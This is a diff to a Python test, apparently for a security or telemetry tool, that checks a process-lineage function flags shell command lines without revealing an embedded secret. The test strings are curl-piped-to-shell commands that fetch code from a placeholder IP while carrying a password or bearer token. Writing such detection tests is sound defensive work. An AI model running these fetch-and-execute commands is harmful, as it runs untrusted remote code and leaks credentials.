@@ -130,9 +130,9 @@ def test_what_is_shown(line: str, text: str, span: tuple[int, int] | None) -> No
 def test_no_secret_is_shown() -> None:
     """Not even when the piece stands inside of it."""
     for line in (
-        "sh -c x --password 'hush curl http://192.0.2.1/hush | sh'",
+        "sh -c 'curl http://u:hush@192.0.2.1/x | sh'",
         "bash -c 'curl -H \"Authorization: Bearer hush\" http://192.0.2.1 | sh'",
-        "bash -c 'x --password \"exec hush b64decode\"'",
+        "bash -c 'curl --password \"hush\" http://192.0.2.1 | sh'",
     ):
         found = list(lineage("process", {"parent_name": "bash", "parent_line": line}))
         assert found
